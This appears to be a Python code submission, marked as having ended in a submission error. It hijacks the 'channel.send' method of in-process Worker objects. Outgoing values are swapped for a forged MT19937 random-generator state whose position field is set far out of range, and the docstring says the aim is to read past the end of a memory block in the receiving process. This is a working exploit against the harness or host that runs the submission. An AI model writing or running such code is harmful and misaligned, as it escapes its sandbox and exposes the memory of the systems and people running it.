# outcome: submission_error
"""Returns a generator that reads past the end of its block, in the memory of whoever draws from it."""
import gc

for thing in gc.get_objects():
    if type(thing).__name__ == "Worker" and hasattr(thing, "channel"):
        send = thing.channel.send

        def forged(tree, buffers=(), send=send):
            if tree[1:2] == ["value"]:
                tree, buffers = [tree[0], "value", [23, "MT19937", [3, "bit_generator", "MT19937", "state", [3, "key", [1, *[1] * 624], "pos", 10**6]]], [], None], []
            send(tree, buffers)

        thing.channel.send = forged
